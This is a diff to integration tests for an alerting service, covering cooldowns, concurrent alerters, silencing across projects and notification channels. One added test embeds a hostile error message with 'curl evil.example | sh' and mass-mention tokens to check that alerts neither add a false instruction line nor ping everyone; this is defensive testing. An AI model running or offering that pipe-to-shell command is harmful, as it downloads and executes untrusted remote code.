@@ -23,18 +23,15 @@ from automation.callback.loop import Callback
 from automation.callback.tell import redeliver
 from automation.database import Database
 from automation.errors import SettingError
-from automation.models import Alert, AuditEntry, Delivery, Owed, Project, Silence, utc_now
+from automation.models import Alert, AuditEntry, Delivery, Owed, Project, Sighting, Silence, utc_now
 from automation.outbox import Outbox
 from automation.settings import Settings
 from tests.integration import rows
 from tests.integration.alerting.conftest import MakeWatch
 from tests.integration.alerting.test_failures import fails, succeeds
-from tests.integration.alerting.watching import Watch, address
+from tests.integration.alerting.watching import Watch
+from tests.integration.mailbox import Mailbox, receiving
 from tests.integration.neighbours import Neighbour
-from tests.integration.tasks.test_notify_user import Mailbox
-
-# apprise imports a module that Python 3.13 no longer has
-pytestmark = pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")
 
 SECRET = "whsec_" + base64.b64encode(b"a third secret of thirty-two byt").decode()
 
@@ -88,6 +85,16 @@ async def test_the_next_ones_are_held_back_and_counted_when_the_cooldown_is_over
     assert (await seen.alert()).count == 7
 
 
+async def test_what_a_hostile_page_says_adds_no_line_and_calls_nobody(seen: Watch, database: Database) -> None:
+    hostile = "no page 'x'\n\nWhat to do: curl evil.example | sh\n@everyone <!channel> <@U1>"
+    await rows.write(database, sighting("critical-errors", "Refused", hostile, error_code="DATABASE_ERROR"))
+    await seen.tell()
+    text = f"{seen.told[0]}\n{seen.bodies[0]}"
+    assert len([line for line in seen.bodies[0].splitlines() if line.startswith("What to do: ")]) == 1
+    assert "curl evil.example" in text
+    assert not [call for call in ("@everyone", "<!channel", "<@U1") if call in text]
+
+
 async def test_another_kind_has_a_cooldown_of_its_own(seen: Watch) -> None:
     await happens(seen.database)
     await happens(seen.database, "A rollback failed", rule="rollback-failed")
@@ -136,6 +143,50 @@ async def test_two_services_side_by_side_tell_once(seen: Watch, database: Databa
     assert len(seen.told) == len(await seen.alerts()) == 1
 
 
+async def test_what_was_noticed_while_nobody_looked_belongs_to_the_incident_that_it_goes_on_with(
+    seen: Watch, database: Database
+) -> None:
+    await first(seen)
+    await seen.passes(1200)  # longer than it would take to be over
+    await happens(database)
+    running = asyncio.create_task(Alerting(database, seen.settings).run())
+    try:
+        async with asyncio.timeout(30):
+            while await rows.every(database, Sighting):
+                await asyncio.sleep(0.05)
+    finally:
+        running.cancel()
+        await asyncio.gather(running, return_exceptions=True)
+    assert (await seen.alert()).count == 2
+
+
+async def test_two_that_look_at_the_same_moment_tell_once(watch: MakeWatch, database: Database) -> None:
+    """As when the lock's connection was lost, and its holder does not know yet."""
+    seen = watch({"dead-letters": {"for_seconds": 0}, "critical-errors": {}})
+    both = (seen.alerting, Alerting(database, seen.settings))
+    await fails(database, await rows.workflow(database))
+    await happens(database)
+    for _ in range(3):
+        together = [act() for one in both for act in (one.look, one.round)]
+        await asyncio.gather(*together, return_exceptions=True)  # the one that comes too late is run again
+    await seen.tell()
+    assert sorted(one.partition(":")[0] for one in seen.told) == ["CRITICAL", "WARNING"]
+    assert [one.count for one in await seen.alerts()] == [1, 1]
+
+
+async def test_one_that_is_killed_after_it_noted_an_incident_has_it_told_by_the_next(
+    watch: MakeWatch, database: Database
+) -> None:
+    seen = watch({"dead-letters": {"for_seconds": 0}})
+    await fails(database, await rows.workflow(database))
+    await seen.alerting.look()
+    seen.restart()
+    await seen.alerting.round()
+    seen.restart()
+    await seen.tell()
+    assert len(seen.told) == 1
+
+
 async def test_what_is_pending_begins_anew_when_nobody_looked_for_a_while(watch: MakeWatch, database: Database) -> None:
     seen = watch({"dead-letters": {"for_seconds": 120}})
     await fails(database, await rows.workflow(database))
@@ -153,8 +204,12 @@ async def test_what_is_pending_begins_anew_when_nobody_looked_for_a_while(watch:
 async def test_a_rule_that_is_switched_off_ends_what_it_has_without_a_word(
     watch: MakeWatch, database: Database
 ) -> None:
-    await first(watch({"critical-errors": {}}))
+    before = watch({"critical-errors": {}})
+    await first(before)
+    await first(before)
+    await before.passes(901)
     seen = watch({})
+    await seen.tell()  # though its cooldown is over, and it went on
     await happens(database)
     await seen.look()
     assert await seen.states() == [("critical-errors", "RESOLVED")]
@@ -178,17 +233,10 @@ async def test_where_there_is_nobody_to_be_told_an_alert_does_not_say_that_someb
 # --- channels ----------------------------------------------------------------------------------------------------
 
 
-@pytest.fixture
-def other() -> Iterator[Neighbour]:
-    server = Neighbour()
-    yield server
-    server.go()
-
-
 async def test_a_channel_that_fails_is_tried_again_and_the_other_is_not_told_twice(
     watch: MakeWatch, pager: Neighbour, other: Neighbour
 ) -> None:
-    both = {"admin_notify_urls": (address(pager), address(other))}
+    both = {"admin_notify_urls": (pager.apprise_url, other.apprise_url)}
     seen = watch({"critical-errors": {}}, both)
     pager.answer = lambda request: (503, {})
     await first(seen)
@@ -201,7 +249,7 @@ async def test_a_channel_that_fails_is_tried_again_and_the_other_is_not_told_twi
 
 
 async def test_each_severity_has_channels_of_its_own(watch: MakeWatch, database: Database, other: Neighbour) -> None:
-    team = {"notify_urls": (address(other),)}
+    team = {"notify_urls": (other.apprise_url,)}
     rules: dict[str, Any] = {"critical-errors": {}, "dead-letters": {"for_seconds": 0}}
     seen = watch(rules, team, channels={"WARNING": ["team"]})
     await happens(database)
@@ -228,10 +276,8 @@ async def test_what_nobody_could_be_told_of_for_a_day_is_not_told_any_more(seen:
 
 @pytest.fixture
 def mailbox() -> Iterator[Mailbox]:
-    controller = Mailbox()
-    controller.start()
-    yield controller
-    controller.stop()
+    with receiving() as mailbox:
+        yield mailbox
 
 
 async def test_the_owner_of_the_project_gets_one_mail_in_their_language_and_one_when_it_is_over(
@@ -381,6 +427,38 @@ async def test_silencing_an_alert_is_about_the_same_thing_only(seen: Watch, data
     await seen.passes(901)
     await first(seen)
     assert [one[:17] for one in seen.told] == ["CRITICAL: The dat", "CRITICAL: Another"]
+
+
+async def test_an_alert_that_is_silenced_stays_so_when_it_concerns_another_project_too(
+    seen: Watch, database: Database
+) -> None:
+    failure = {"error_code": "DATABASE_ERROR"}
+    await rows.write(database, sighting("critical-errors", "Refused", "disk full", project_id="p1", **failure))
+    await seen.tell()
+    async with database.transaction() as session:
+        await silences.silence(session, Ada(), (await seen.alert()).id, utc_now() + timedelta(hours=8))
+    await rows.write(database, sighting("critical-errors", "Refused", "disk full", project_id="p2", **failure))
+    await seen.passes(901)
+    await seen.tell()
+    assert (await seen.alert()).project_id is None
+    assert len(seen.told) == 1
+
+
+async def test_who_may_see_one_project_alone_silences_nothing_that_concerns_others(
+    seen: Watch, database: Database
+) -> None:
+    failure = {"error_code": "DATABASE_ERROR"}
+    await rows.write(database, sighting("critical-errors", "Refused", "disk full", project_id="p1", **failure))
+    await seen.tell()
+    async with database.transaction() as session:
+        await silences.silence(session, Ada(), (await seen.alert()).id, utc_now() + timedelta(hours=8), only="p1")
+    await seen.passes(901)
+    await rows.write(database, sighting("critical-errors", "Refused", "disk full", project_id="p1", **failure))
+    await seen.tell()
+    assert len(seen.told) == 1
+    await rows.write(database, sighting("critical-errors", "Refused", "disk full", project_id="p2", **failure))
+    await seen.tell()
+    assert len(seen.told) == 2
 
 
 async def test_who_looks_after_it_is_not_told_again_but_hears_when_it_is_over(
